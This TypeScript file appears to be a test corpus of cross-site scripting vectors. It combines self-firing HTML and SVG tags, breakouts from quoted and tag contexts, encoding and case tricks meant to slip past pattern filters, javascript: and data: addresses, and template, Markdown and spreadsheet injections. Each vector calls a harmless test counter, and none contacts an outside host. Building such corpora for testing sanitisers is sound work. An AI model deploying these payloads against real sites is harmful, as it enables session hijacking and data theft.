/** What a vector calls where it is run: the page under test has this function, and counts. */
const CALL = 'fired(1)';

/** Elements that load something or can be focused, with what makes their events come by themselves. */
const SELF_FIRING: readonly string[] = [
  `<img src=x onerror=${CALL}>`,
  `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x to=1>`,
  `<svg><image href=x onerror=${CALL}>`,
  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text x=20 y=20>open</text></a>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><style onload=${CALL}></style></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<video><source onerror=${CALL}>`,
  `<video src=x onerror=${CALL}>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<button autofocus onfocus=${CALL}>open</button>`,
  `<a href=# autofocus onfocus=${CALL}>open</a>`,
  `<div tabindex=1 autofocus onfocus=${CALL}>open</div>`,
  `<details open ontoggle=${CALL}>open`,
  `<iframe onload=${CALL}></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:parent.${CALL}"></object>`,
  `<object data=x onerror=${CALL}></object>`,
  `<embed src="javascript:parent.${CALL}">`,
  `<embed src=x onload=${CALL}>`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<link rel=stylesheet href="data:text/css," onload=${CALL}>`,
  `<style onload=${CALL}></style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${CALL}>open</b>`,
  `<style>@keyframes x{from{left:0}to{left:9px}}b{animation:x 1s}</style><b onanimationend=${CALL}>open</b>`,
  `<b style="transition:color 1ms" ontransitionrun=${CALL}>open</b>`,
  `<script>${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script type=module>${CALL}</script>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<body onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>open</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//"><a href=x>open</a>`,
  `<form action="javascript:${CALL}"><button>open</button></form>`,
  `<button formaction="javascript:${CALL}" form=f>open</button><form id=f></form>`,
  `<isindex type=image src=x onerror=${CALL}>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<noscript><img src=x onerror=${CALL}></noscript>`,
  `<table background="javascript:${CALL}"><td background="javascript:${CALL}">`,
  `<portal src="javascript:${CALL}">`,
  `<dialog open onclose=${CALL}><form method=dialog><button autofocus>open</button></form></dialog>`,
  `<div popover id=p onbeforetoggle=${CALL}>x</div><button popovertarget=p autofocus>open</button>`,
  `<xss contenteditable autofocus onfocus=${CALL}>open</xss>`,
];

/** What closes the place that a value was put into, so that a tag can follow. */
const BREAKOUTS: readonly string[] = [
  '">',
  `'>`,
  '`>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '-->',
  ']]>',
  '</xmp>',
  '</svg>',
  '</math>',
  '</option></select>',
  '\\">',
  '\n\n',
  '&quot;>',
  '\u0000">',
];

/** The same tag written so that a filter by patterns does not see it. */
const DISGUISES: readonly ((tag: string) => string)[] = [
  (tag) => tag.replace(/<(\w+)/, (_, name: string) => `<${name.toUpperCase()}`),
  (tag) => tag.replace(/<(\w+) /, '<$1/'),
  (tag) => tag.replace(/<(\w+) /, '<$1\n'),
  (tag) => tag.replace(/<(\w+) /, '<$1\t\u000c'),
  (tag) => tag.replace(/ on(\w+)=/, ' on$1 = '),
  (tag) => tag.replace(/ on(\w+)=(\S+?)(?=[ >])/, ' on$1="$2"'),
  (tag) => tag.replace(/ on(\w+)=(\S+?)(?=[ >])/, (_, name: string, code: string) => ` on${name}=${entities(code)}`),
  (tag) => tag.replace(/ on(\w+)=(\S+?)(?=[ >])/, (_, name: string, code: string) => ` on${name}=${hexEntities(code)}`),
  (tag) => tag.replace(/javascript:/g, 'JaVaScRiPt:'),
  (tag) => tag.replace(/javascript:/g, 'java&#9;script:'),
  (tag) => tag.replace(/javascript:/g, '&#106;avascript:'),
  (tag) => tag.replace(/javascript:/g, '\u0001javascript:'),
  (tag) => `<${tag}`,
  (tag) => `<!--><b>${tag}`,
  (tag) => `<b title="${tag.replaceAll('"', '&quot;')}">${tag}`,
  (tag) => tag.replaceAll('fired', 'fi\\u0072ed'),
];

/** Addresses that run something where they become a link, a frame or an image. */
const ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JAVASCRIPT:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript://example.org/%0a${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${CALL}>*/${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>opener.${CALL}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `vbscript:${CALL}`,
  `blob:${CALL}`,
  `filesystem:${CALL}`,
  `view-source:javascript:${CALL}`,
  `https://example.org/"onmouseover="${CALL}`,
  `https://example.org/'><img src=x onerror=${CALL}>`,
  `//example.org/</script><script>${CALL}</script>`,
];

/** Text that other languages take for more than text: Markdown, templates, formulas, terminals, style sheets. */
const OTHER_TONGUES: readonly string[] = [
  `[open](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`,
  `<javascript:${CALL}>`,
  `[x]: javascript:${CALL}\n[x]`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `{${CALL}}`,
  `=HYPERLINK("javascript:${CALL}","open")`,
  `\u001b]8;;javascript:${CALL}\u0007open\u001b]8;;\u0007`,
  `\u2028${CALL}\u2029`,
  `";${CALL};//`,
  `';${CALL};//`,
  `\`;${CALL};//`,
  `</script><script>${CALL}</script>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`,
  `constructor[prototype][srcdoc]=<script>${CALL}</script>`,
  `expression(${CALL})`,
  `url(javascript:${CALL})`,
  `@import 'javascript:${CALL}';`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\u202e<img src=x onerror=${CALL}>`,
  `＜script＞${CALL}＜/script＞`,
];

function entities(text: string): string {
  return [...text].map((letter) => `&#${letter.codePointAt(0)}`).join(';');
}

function hexEntities(text: string): string {
  return [...text].map((letter) => `&#x${(letter.codePointAt(0) as number).toString(16)};`).join('');
}

/** Shapes of text that would run a script, if somebody took it for a page; all different. */
export const VECTORS: readonly string[] = [
  ...new Set([
    ...SELF_FIRING,
    ...SELF_FIRING.flatMap((tag, at) =>
      [BREAKOUTS[at % BREAKOUTS.length], BREAKOUTS[(at + 7) % BREAKOUTS.length]].map((out) => `${out}${tag}`),
    ),
    ...BREAKOUTS.map((out) => `${out}<img src=x onerror=${CALL}>`),
    ...SELF_FIRING.flatMap((tag) => DISGUISES.map((disguise) => disguise(tag)).filter((one) => one !== tag)).filter(
      (_, at) => at % 2 === 0,
    ),
    ...ADDRESSES,
    ...ADDRESSES.map((address) => `<a href="${address.replaceAll('"', '&quot;')}" autofocus>open</a>`),
    ...ADDRESSES.map((address) => `<iframe src="${address.replaceAll('"', '&quot;')}"></iframe>`),
    ...OTHER_TONGUES,
  ]),
];

/** Those that are addresses: where a field holds one, these are what it would hold. */
export const ADDRESS_VECTORS: readonly string[] = ADDRESSES;
